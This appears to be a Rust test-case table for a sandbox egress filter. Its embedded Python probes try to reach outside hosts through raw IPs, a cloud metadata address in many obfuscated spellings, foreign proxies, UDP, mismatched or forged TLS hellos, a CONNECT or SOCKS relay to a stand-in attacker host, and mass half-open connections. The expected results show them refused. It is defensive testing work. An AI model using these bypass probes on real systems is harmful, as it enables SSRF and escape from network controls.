//! Streams and packets to wherever: addresses, ports, TLS that hides or lies, relays.

use super::Reach;

pub(super) const LIST: &[Reach] = &[
    Reach {
        row: "N1",
        what: "addresses instead of names, any port, IPv4 and IPv6",
        script: "tell(*together(*[to((ADDRESS, port)) for port in (22, 80, 443, 853, 3128, 8080)], to(('2606:4700::66', 443)), to(('10.0.0.5', 80)), to(('fd00::7', 80))))",
        outcome: "ended",
        records: "connection.open 10.0.0.5: refused, no rule\n\
                  connection.open 93.184.216.66: refused, no rule\n\
                  connection.open [2606:4700::66]: refused, no rule\n\
                  connection.open [fd00::7]: refused, no rule",
        heard: "",
    },
    Reach {
        row: "N1",
        what: "the metadata service of clouds, in every spelling of its address",
        script: "tell(*together(*[to((address, 80)) for address in ('169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '169.254.43518', '0xa9.254.0251.254', \
                 '::ffff:169.254.169.254', '::ffff:a9fe:a9fe', 'fd00:ec2::254', '64:ff9b::a9fe:a9fe', '2002:a9fe:a9fe::1')]))",
        outcome: "ended",
        records: "connection.open 169.254.169.254: refused, no rule\n\
                  connection.open [2002:a9fe:a9fe::1]: refused, no rule\n\
                  connection.open [64:ff9b::a9fe:a9fe]: refused, no rule\n\
                  connection.open [fd00:ec2::254]: refused, no rule",
        heard: "",
    },
    Reach {
        row: "N2",
        what: "no proxy variables, and those of somebody else",
        script: "code = 'import urllib.request as u; print(u.urlopen(\"http://read.test.example/open\").read().decode())'\n\
                 for env in [{}, {'http_proxy': 'http://93.184.216.66:3128'}]:\n\
                 \x20   print(subprocess.run([sys.executable, '-c', code], env=env, capture_output=True, text=True).stdout.strip() or 'failed')",
        outcome: "hello\n\
                  failed",
        records: "connection.open 93.184.216.66: refused, no rule\n\
                  connection.open read.test.example: over\n\
                  request.send read.test.example: over",
        heard: "asked for read.test.example\n\
                read: GET /open",
    },
    Reach {
        row: "N3",
        what: "datagrams: QUIC, NTP, WireGuard, to the attacker and to everybody",
        script: "def send(to, port):\n\
                 \x20   s = socket.socket(socket.AF_INET6 if ':' in to else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect((to, port))\n\
                 \x20   s.send(b'\\xc3' + bytes(1199)); s.recv(9); return 'through'\n\
                 tell(*[lambda p=p, a=a: send(a, p) for p in (443, 123, 51820) for a in (ADDRESS, '2606:4700::66')], lambda: send('224.0.0.251', 5353)); time.sleep(0.3)",
        outcome: "ECONNREFUSED EINVAL",
        records: "packet_nowhere",
        heard: "",
    },
    Reach {
        row: "N10",
        what: "TLS to an address with an allowed name in it, and to an allowed name with another in it",
        script: "tell(shake(ADDRESS, name=NAME), shake('2606:4700::66', name=NAME), shake(NAME, name=EVIL), shake('tunnel.test.example', name=NAME, check=False))",
        outcome: "ended",
        records: "connection.open 93.184.216.66: refused, no rule\n\
                  connection.open [2606:4700::66]: refused, no rule\n\
                  connection.open read.test.example: refused, egress:misdirected\n\
                  connection.open tunnel.test.example: refused, egress:misdirected",
        heard: "",
    },
    Reach {
        row: "N12",
        what: "TLS without a name, with a hello that is none; with an encrypted hello, which is not looked for inside: it ends here and goes nowhere else; one cut into records of 30 bytes, and into single bytes, is read right",
        script: "def pump(change, host=NAME):\n\
                 \x20   near, far = ssl.MemoryBIO(), ssl.MemoryBIO()\n\
                 \x20   t = trusting().wrap_bio(near, far, server_hostname=host); s = dial(host, 443)\n\
                 \x20   def until(act):\n\
                 \x20       while True:\n\
                 \x20           try:\n\
                 \x20               return act()\n\
                 \x20           except ssl.SSLWantReadError:\n\
                 \x20               out = far.read()\n\
                 \x20               nonlocal change\n\
                 \x20               for piece in (change(out) if change else [out]):\n\
                 \x20                   s.sendall(piece)\n\
                 \x20               change = None if out else change\n\
                 \x20               got = s.recv(65536)\n\
                 \x20               if not got:\n\
                 \x20                   raise ConnectionError\n\
                 \x20               near.write(got)\n\
                 \x20   try:\n\
                 \x20       s.setsockopt(6, 1, 1)\n\
                 \x20       until(t.do_handshake); t.write(get().encode())\n\
                 \x20       return until(lambda: t.read(99)).split()[1].decode()\n\
                 \x20   except (ConnectionError, ssl.SSLError):\n\
                 \x20       return 'ended'\n\
                 def cut(out):\n\
                 \x20   return [out[:3] + len(out[n:n + 30]).to_bytes(2, 'big') + out[n:n + 30] for n in range(5, len(out), 30)]\n\
                 def hidden(out):\n\
                 \x20   at = 5 + 4 + 2 + 32; at += 1 + out[at]; at += 2 + int.from_bytes(out[at:at + 2], 'big'); at += 1 + out[at]\n\
                 \x20   more = bytes.fromhex('fe0d') + (107).to_bytes(2, 'big') + b'\\0\\0\\1\\0\\1\\7' + (32).to_bytes(2, 'big') + bytes(32) + (65).to_bytes(2, 'big') + bytes(65)\n\
                 \x20   list_, hello = int.from_bytes(out[at:at + 2], 'big') + len(more), int.from_bytes(out[6:9], 'big') + len(more)\n\
                 \x20   return [out[:3] + (hello + 4).to_bytes(2, 'big') + b'\\1' + hello.to_bytes(3, 'big') + out[9:at] + list_.to_bytes(2, 'big') + out[at + 2:] + more]\n\
                 tell(shake(NAME, name='', check=False), lambda: pump(hidden), lambda: pump(lambda out: [b'\\x16\\3\\1\\0\\5\\2\\0\\0\\1\\0']))\n\
                 tell(lambda: pump(cut), lambda: pump(lambda out: [bytes([byte]) for byte in out]))",
        outcome: "ended\n200",
        records: "connection.open read.test.example: client_tls\n\
                  connection.open read.test.example: over\n\
                  connection.open read.test.example: refused, egress:misdirected\n\
                  connection.open read.test.example: refused, egress:opening\n\
                  request.send read.test.example: over",
        heard: "asked for read.test.example, 3 times\n\
                read: GET /open, 2 times",
    },
    Reach {
        row: "N16",
        what: "a relay inside that takes CONNECT and goes out itself; SOCKS5 to the attacker and to an allowed host; CONNECT to an allowed host",
        script: "door = socket.create_server(('127.0.0.1', 8118))\n\
                 def relay():\n\
                 \x20   near, _ = door.accept(); to = near.recv(999).split()[1].decode().split(':')\n\
                 \x20   far = dial(to[0], int(to[1])); near.sendall(b'HTTP/1.1 200 OK\\r\\n\\r\\n')\n\
                 \x20   far.sendall(near.recv(4096)); near.sendall(far.recv(4096)); near.close()\n\
                 threading.Thread(target=relay, daemon=True).start()\n\
                 s = say(dial('127.0.0.1', 8118), f'CONNECT {EVIL}:443 HTTP/1.1\\r\\n\\r\\n'); line(s); line(s)\n\
                 tell(lambda: statuses(say(s, get(host=EVIL))))\n\
                 tell(lambda: len(heard(say(dial(ADDRESS, 1080), b'\\5\\1\\0'))), lambda: len(heard(say(dial(NAME, 443), b'\\5\\1\\0'))))\n\
                 tell(once(get(f'{EVIL}:443', method='CONNECT')), once(get(f'{EVIL}:443', host=EVIL, method='CONNECT')))",
        outcome: "403\n\
                  0\n\
                  405",
        records: "connection.open 93.184.216.66: refused, no rule\n\
                  connection.open evil.test.example: refused, no rule\n\
                  connection.open read.test.example: over\n\
                  connection.open read.test.example: refused, no rule\n\
                  request.send read.test.example: refused, egress:request",
        heard: "asked for read.test.example, 2 times",
    },
    Reach {
        row: "N29",
        what: "half-open connections: 200 that say nothing, 200 whose hello stops, 200 whose head stops; who comes then is served",
        script: "kept = [dial(EVIL, 443) for _ in range(200)] + [say(dial(NAME, 443), b'\\x16\\3\\1\\2\\0\\1') for _ in range(200)] + [say(dial(), 'GET /open HTTP/1.1\\r\\nho') for _ in range(200)]\n\
                 tell(once(get()), lambda: ask(tls(), get()))\n\
                 tell(*together(*[lambda s=s: statuses(s) for s in kept]))",
        outcome: "200\n\
                  ended 408",
        records: "connection.open evil.test.example: refused, no rule\n\
                  connection.open read.test.example: malformed\n\
                  connection.open read.test.example: over\n\
                  request.send read.test.example: over",
        heard: "asked for read.test.example, 202 times\n\
                read: GET /open, 2 times",
    },
];
